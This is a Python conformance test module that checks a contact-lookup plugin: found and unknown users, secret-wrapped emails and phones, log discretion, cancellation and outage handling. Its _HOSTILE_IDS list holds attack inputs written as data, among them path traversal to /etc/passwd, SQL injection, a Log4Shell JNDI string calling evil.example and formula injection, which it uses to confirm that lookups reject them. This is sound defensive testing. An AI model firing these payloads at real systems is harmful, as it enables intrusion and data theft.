"""Finding users."""

import asyncio
import functools

from gatepost.model import Contact, Secret
from gatepost.testing.conformance import asking, yardstick
from gatepost.testing.conformance.bench import Bench, Live, described, gathered
from gatepost.testing.conformance.people import PLAIN, STRANGE
from gatepost.testing.conformance.provider import Trouble
from gatepost.testing.conformance.registry import Group, check
from gatepost.testing.conformance.watching import found_in

_ONE = "conformance-1"
_HOSTILE_IDS = (
    "nobody",
    " ",
    "\0",
    "\n",
    f"{_ONE}\0",
    f"{_ONE}\n",
    f"{_ONE}%00",
    f"{_ONE}/",
    f"{_ONE}?x=1",
    f"../{_ONE}",
    "../../../../etc/passwd",
    "%",
    "_",
    "*",
    "conformance-_",
    "conformance-%",
    "' OR '1'='1",
    '"; DROP TABLE users; --',
    "{}",
    "${jndi:ldap://evil.example}",
    "\ud800",
    "\u202e1-ecnamrofnoc",
    "ü☃😀",
    "=1+1",
    "x" * 512,
    "😀" * 512,
)


@check(Group.CONTACTS)
async def known(bench: Bench) -> None:
    """A user that the source knows is found, with address and number."""
    async with bench.live() as live:
        for user in PLAIN:
            _same(user, await live.find(user), bench.people[user])


@check(Group.CONTACTS, unattended=True)
async def unknown(bench: Bench) -> None:
    """A user that it does not know is None."""
    async with bench.live() as live:
        outcome = await live.find("no-such-user-here")
    assert outcome is None, f"an unknown user: {described(outcome)} instead of returning None"


@check(Group.CONTACTS)
async def lacking(bench: Bench) -> None:
    """A user without an address or a number is found all the same; what lacks is None."""
    async with bench.live() as live:
        for user, contact in bench.people.items():
            if contact.email is None or contact.phone is None:
                _same(user, await live.find(user), contact)


@check(Group.CONTACTS)
async def secret(bench: Bench) -> None:
    """Address and number are Secrets, attributes are texts."""
    async with bench.live() as live:
        found = await live.find(_ONE)
    assert isinstance(found, Contact), described(found)
    for value in (found.email, found.phone):
        assert value is None or isinstance(value, Secret), "an address or number is no Secret"
        assert value is None or isinstance(value.reveal(), str), "an address or number is no text"
    texts = [text for pair in dict(found.attributes).items() for text in pair]
    assert all(isinstance(text, str) for text in texts), "an attribute is no text"


@check(Group.CONTACTS)
async def strange(bench: Bench) -> None:
    """Odd addresses and numbers are handed on as they are: the core judges them."""
    async with bench.live() as live:
        for user in STRANGE:
            _same(user, await live.find(user), bench.people[user])


@check(Group.CONTACTS, unattended=True)
async def hostile_ids(bench: Bench) -> None:
    """A hostile id is nobody's: None, never another user and never an error."""
    async with bench.live() as live:
        for user in _HOSTILE_IDS:
            outcome = await live.find(user)
            shown = ascii(user[:24])
            assert not isinstance(outcome, Contact), f"the id {shown} finds a user"
            assert outcome is None, f"the id {shown}: {described(outcome)} instead of returning None"


@check(Group.CONTACTS)
async def concurrently(bench: Bench) -> None:
    """Many lookups at once each find their own user."""
    users = [user for user in PLAIN for _ in range(10)]
    async with bench.live() as live:
        found = await gathered([live.find(user) for user in users])
    for user, outcome in zip(users, found, strict=True):
        _same(user, outcome, bench.people[user])


@check(Group.CONTACTS)
async def discreet(bench: Bench) -> None:
    """Nobody's address or number is logged at any level or printed, and no secret."""
    async with bench.live() as live:
        for user in (*bench.people, "no-such-user-here"):
            await live.find(user)
    text = "\n".join(live.watch.texts)
    values = [_value(one) for user in PLAIN for one in (bench.people[user].email, bench.people[user].phone)]
    assert not found_in(text, values), "a user's address or number stands in a log"
    assert not found_in(text, bench.secrets()), "a secret stands in a log"


@check(Group.CONTACTS)
async def free_loop(bench: Bench) -> None:
    """It blocks the loop neither with a call nor with much CPU."""
    async with bench.live() as live:
        for user in (*PLAIN, "no-such-user-here"):
            await yardstick.check_cpu(live.watch, functools.partial(live.find, user))
    calls = ", ".join(sorted(set(live.watch.blocking)))
    assert not calls, f"it blocks the loop by {calls}: hand it to asyncio.to_thread"


@check(Group.CONTACTS)
async def cancelled(bench: Bench) -> None:
    """Cancelled at any moment it ends as cancelled, and the next lookup finds the right user."""
    first, second = PLAIN[:2]
    async with bench.live(concurrency=1) as live:
        for turns in range(6):
            task = live.begin("find_contact", first)
            for _ in range(turns):
                await asyncio.sleep(0)
            await asking.cancelled(task)
            _same(second, await live.find(second), bench.people[second])


@check(Group.CONTACTS, Trouble.OUTAGE)
async def outage(bench: Bench) -> None:
    """A source with a fault of its own is Unavailable: not None, which would be no such user."""
    await asking.unavailable(bench, Trouble.OUTAGE, _find, _found_after(bench))


@check(Group.CONTACTS, Trouble.DENY)
async def denied(bench: Bench) -> None:
    """A key that is refused is Unavailable, misconfigured."""
    await asking.denied(bench, _find, _found_after(bench))


@check(Group.CONTACTS, Trouble.HANG)
async def hang(bench: Bench) -> None:
    """A source that does not answer is Unavailable, by the plugin's own deadline of `timeout` seconds."""
    await asking.unavailable(bench, Trouble.HANG, _find, _found_after(bench))


@check(Group.CONTACTS, Trouble.LOSE)
async def lost(bench: Bench) -> None:
    """A lost answer is Unavailable: of a lookup nothing can be Uncertain."""
    await asking.unavailable(bench, Trouble.LOSE, _find, _found_after(bench))


@check(Group.CONTACTS, Trouble.NONSENSE)
async def nonsense(bench: Bench) -> None:
    """An answer without sense in it is Unavailable, and finds nobody."""
    await asking.unavailable(bench, Trouble.NONSENSE, _find, _found_after(bench))


@check(Group.CONTACTS, Trouble.UNREACHABLE)
async def unreachable(bench: Bench) -> None:
    """A source where nobody listens is Unavailable."""
    await asking.nobody_listens(bench, _find)


async def _find(live: Live) -> object:
    return await live.find(_ONE)


def _found_after(bench: Bench) -> asking.Ask:
    async def find(live: Live) -> None:
        _same(_ONE, await live.find(_ONE), bench.people[_ONE])

    return find


def _same(user: str, found: object, expected: Contact) -> None:
    assert isinstance(found, Contact), f"the user {user}: {described(found)} instead of returning a Contact"
    for name in ("email", "phone"):
        got, wanted = getattr(found, name), getattr(expected, name)
        assert got == wanted, f"the user {user}: the {name} is not the one that the source has"


def _value(one: Secret | None) -> str:
    return one.reveal() if one else ""
